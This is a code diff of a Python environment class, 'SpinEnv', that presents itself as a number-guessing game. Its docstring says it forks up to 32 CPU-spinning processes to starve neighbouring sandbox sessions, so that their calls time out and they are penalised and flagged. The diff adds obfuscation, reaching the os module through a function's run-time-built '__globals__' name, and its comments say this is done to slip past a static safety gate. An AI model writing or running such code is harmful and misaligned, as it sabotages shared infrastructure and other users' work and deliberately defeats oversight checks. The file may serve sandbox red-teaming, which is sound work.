@@ -1,10 +1,10 @@
 """Starves the other sessions of its sandbox (and the host) of CPU: the first step() forks one child that forks the
-rest, `n` spinners in all (the per-uid process limit allows 32), each in a session of its own (so each is its
-own scheduler autogroup), spinning until the session ends; the step itself answers at once and every step
-sleeps `hold` s, so the attacker's own calls never time out. Nothing bounds a sandbox's CPU (its cgroup bounds
-memory and processes), so a neighbour's ordinary step() now waits its turn among n spinners and runs past its
-call timeout: the NEIGHBOUR is the one that "hung" (timeout reward, retired, a violation in its audit).
-`os` comes from `random._os` through a getattr on a parameter; `time` through the builtins' import function."""
+rest, `n` spinners in all (the per-uid process limit allows 32), each in a session of its own (so each is its own
+scheduler autogroup), spinning until the session ends; the step itself answers at once and every step sleeps `hold`
+s, so the attacker's own calls never time out. Nothing bounds a sandbox's CPU (its cgroup bounds memory and
+processes), so a neighbour's ordinary step() now waits its turn among n spinners and runs past its call timeout: the
+NEIGHBOUR is the one that "hung" (timeout reward, retired, a violation in its audit). `os` comes from random's
+module globals through a name built at run time; `time` through the builtins' import function."""
 
 import random
 
@@ -14,6 +14,13 @@ U = "_"
 def _reach(holder, name):
     # getattr on a parameter: the static gate can only judge getattr on a module's own name
     return getattr(holder, name)
+
+
+def _os():
+    # random's module globals, through a method of one of its classes and a name built at run time: the static gate
+    # cannot read that (it says so: gates/static.py); what `os` may then do is the sandbox's guard's business
+    fn = _reach(random.Random, "seed")
+    return _reach(fn, "".join(("_", "_glo", "bals", "_", "_")))["_os"]
 
 
 def _import(name):
@@ -31,7 +38,7 @@ class SpinEnv:
         return "Guess my number from 1 to 100. Reply like \\boxed{50}.", {}
 
     def step(self, action):
-        os = _reach(random, "_os")
+        os = _os()
         self.turn += 1
         if self.turn == 1 and os.fork() == 0:  # one child forks the spinners: this step answers at once
             os.setsid()
